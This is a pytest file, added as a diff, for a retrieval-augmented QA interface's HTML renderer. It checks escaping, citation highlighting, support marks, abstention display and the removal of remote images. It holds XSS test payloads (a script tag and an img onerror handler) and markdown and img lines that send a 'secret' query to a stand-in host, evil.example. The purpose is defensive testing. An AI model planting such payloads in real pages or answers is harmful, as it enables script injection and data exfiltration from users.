@@ -1,0 +1,147 @@
+"""What the UI shows: escaping, highlighted spans, support marks, no remote content (fast, no Gradio server)."""
+
+from __future__ import annotations
+
+import re
+
+from rag.catalog import DocumentInfo
+from rag.types import Answer, Chunk, Citation, Hit, Sentence
+from ui.render import (
+    highlight,
+    link_markers,
+    render_answer,
+    render_documents,
+    render_source_card,
+    render_sources,
+    render_streaming,
+    render_trace,
+)
+
+HOSTILE = '<script>window.__xss=1</script><img src=x onerror="window.__xss=2">'
+PASSAGE = "Le musée a reçu 12 000 visiteurs en 2023. " + HOSTILE + " Il ferme le lundi."
+CHUNK_START = 100  # offsets are into the document, the chunk starts further in
+
+
+def hit(text: str = PASSAGE, title: str = "Musée " + HOSTILE, source: str = "/data/uploads/a<b>.md", **extra) -> Hit:
+    chunk = Chunk("doc1", CHUNK_START, CHUNK_START + len(text), text)
+    fields = {"lexical_rank": 1, "dense_rank": 3, "relevance": 0.8, "date": "2024-05", **extra}
+    return Hit(chunk, 0.0321, source, title, **fields)
+
+
+def citation(h: Hit, phrase: str, verification: str = "supported", n: int = 1) -> Citation:
+    start = CHUNK_START + h.chunk.text.index(phrase)
+    return Citation(n, h, start, start + len(phrase), verification)  # type: ignore[arg-type]
+
+
+def answer(sentences: tuple[Sentence, ...], citations: tuple[Citation, ...], **extra) -> Answer:
+    hits = tuple(dict.fromkeys(c.hit for c in citations)) or (hit(),)
+    fields = {"timings": {"retrieval": 0.0123, "total": 0.05}, **extra}
+    return Answer("Combien ?", " ".join(s.text for s in sentences), sentences, citations, hits, **fields)
+
+
+def no_live_markup(rendered: str) -> None:
+    """Hostile markup may only survive as escaped text, never as a tag or an event attribute."""
+    assert not re.search(r"<\s*(script|img|iframe|svg|object)", rendered, re.IGNORECASE)
+    assert not re.search(r"<[^>]*\son\w+\s*=", rendered, re.IGNORECASE)
+
+
+def test_document_text_title_and_file_name_are_escaped_in_source_cards() -> None:
+    h = hit()
+    card = render_source_card(1, h, [citation(h, "12 000 visiteurs")], turn=1)
+    no_live_markup(card)
+    assert "&lt;script&gt;window.__xss=1&lt;/script&gt;" in card
+    assert '<span class="rag-title">Musée &lt;script&gt;' in card
+    assert "&lt;img src=x onerror=&quot;window.__xss=2&quot;&gt;" in card
+    assert "a&lt;b&gt;.md" in card and "<b>.md" not in card
+    assert 'id="t1-src-1"' in card and "2024-05" in card
+
+
+def test_cited_span_is_highlighted_at_its_exact_offsets() -> None:
+    h = hit()
+    card = render_source_card(1, h, [citation(h, "12 000 visiteurs en 2023")], turn=1)
+    assert '<mark class="rag-supported">12 000 visiteurs en 2023</mark>' in card
+    assert "reçu <mark" in card
+
+
+def test_highlight_escapes_inside_and_outside_marks_and_merges_overlaps() -> None:
+    text = "a <b> c & d"
+    rendered = highlight(text, [(2, 5, "supported"), (4, 7, "weak"), (50, 60, "supported")])
+    assert rendered == '<p>a <mark class="rag-supported">&lt;b&gt; c</mark> &amp; d</p>'
+
+
+def test_highlight_keeps_separate_spans_apart() -> None:
+    rendered = highlight("one two three", [(8, 13, "weak"), (0, 3, "supported")])
+    assert rendered == '<p><mark class="rag-supported">one</mark> two <mark class="rag-weak">three</mark></p>'
+
+
+def test_weak_and_unsupported_sentences_are_marked_visibly() -> None:
+    h = hit()
+    weak = citation(h, "Il ferme le lundi.", "weak")
+    rendered = render_answer(
+        answer(
+            (Sentence("Il a reçu 12 000 visiteurs.", (1,), "weak"), Sentence("Il est gratuit.", (), "unsupported")),
+            (weak,),
+        ),
+        turn=2,
+    )
+    assert "weak support" in rendered and "not supported" in rendered
+    assert '<a class="rag-cite" href="#t2-src-1">[1?]</a>' in rendered
+    card = render_source_card(1, h, [weak], turn=2)
+    assert "weak support" in card and '<mark class="rag-weak">' in card
+
+
+def test_supported_answer_links_each_marker_to_its_source_card() -> None:
+    h = hit()
+    cited = citation(h, "12 000 visiteurs")
+    final = answer((Sentence("Le musée a reçu 12 000 visiteurs.", (1,)),), (cited,))
+    rendered = render_answer(final, turn=3)
+    assert '<a class="rag-cite" href="#t3-src-1">[1]</a>' in rendered
+    assert "weak support" not in rendered and "not supported" not in rendered
+    sources = render_sources(final, turn=3)
+    assert 'id="t3-src-1"' in sources and "<mark" in sources
+    no_live_markup(sources)
+
+
+def test_markdown_images_and_img_tags_in_answers_are_removed() -> None:
+    text = "Voir ![logo](https://evil.example/t.png?q=secret) et <img src='https://evil.example/p.gif'> ici."
+    final = answer((Sentence(text, (1,)),), (citation(hit(), "12 000"),))
+    for rendered in (render_answer(final, turn=1), render_streaming(text)):
+        assert "evil.example" not in rendered and "![" not in rendered
+        no_live_markup(rendered)
+        assert "Voir" in rendered and "ici." in rendered
+
+
+def test_leftover_markers_become_links_and_bracketed_years_do_not() -> None:
+    assert link_markers("vu [2] en [2023]", turn=4) == 'vu <a class="rag-cite" href="#t4-src-2">[2]</a> en [2023]'
+
+
+def test_abstention_is_shown_as_such_with_the_closest_passages() -> None:
+    hits = tuple(hit(text=f"Passage {i} sans réponse.", title=f"Doc {i}") for i in range(5))
+    final = Answer("Q ?", "Les documents ne répondent pas.", (), (), hits, abstained=True)
+    rendered = render_answer(final, turn=1)
+    assert "No answer in your documents" in rendered and "Les documents ne répondent pas." in rendered
+    sources = render_sources(final, turn=1)
+    assert "Closest passages" in sources
+    assert sources.count('class="rag-source"') == 3
+
+
+def test_generator_failure_is_one_escaped_line() -> None:
+    final = Answer("Q ?", "x", (), (), (hit(),), abstained=True, error="Server <down>: start it.")
+    rendered = render_answer(final, turn=1)
+    assert '<div class="rag-error">Server &lt;down&gt;: start it.</div>' in rendered
+
+
+def test_trace_shows_rewritten_question_ranks_scores_and_timings() -> None:
+    final = answer((Sentence("S.", (1,)),), (citation(hit(), "12 000"),), rewritten_question="Et <le> musée ?")
+    trace = render_trace(final)
+    assert trace.startswith("<details") and "Et &lt;le&gt; musée ?" in trace
+    assert "<td>1</td><td>1</td><td>3</td><td>0.0321</td><td>0.80</td>" in trace
+    assert "retrieval 12 ms" in trace and "total 50 ms" in trace
+    no_live_markup(trace)
+
+
+def test_documents_table_escapes_titles_and_file_names() -> None:
+    info = DocumentInfo("d1", "Titre " + HOSTILE, None, ("/data/uploads/<i>x.md",), 3, "fr")
+    table = render_documents([info])
+    no_live_markup(table)
+    assert "&lt;i&gt;x.md" in table and "<td>3</td>" in table
